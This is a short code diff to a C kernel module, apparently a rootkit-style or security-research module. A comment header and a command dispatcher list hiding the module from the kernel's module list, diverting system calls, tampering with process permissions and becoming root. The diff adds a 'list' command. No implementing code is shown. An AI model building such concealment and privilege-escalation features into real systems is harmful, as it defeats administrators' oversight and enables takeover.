@@ -11,6 +11,7 @@
  *                                 have a system call led to this module, see divert.c
  *   entry                         have system calls enter the kernel through this module, on this processor
  *   notify                        be called when modules come and go
+ *   list WHERE                    be called for another reason, see be_listed()
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
  *   tamper WHAT                   change what the process may do, for good; see tamper_with()
  *   root INIT_TASK                become root, for good, as exploits do
@@ -112,6 +113,8 @@ static struct effect *perform(const char *command)
 		return divert_entry();
 	if (!strcmp(command, "notify"))
 		return be_notified();
+	if (!strncmp(command, "list ", 5))
+		return be_listed(command + 5);
 	if (!strcmp(command, "hide list"))
 		return hide_from_list();
 	if (!strcmp(command, "hide kset"))
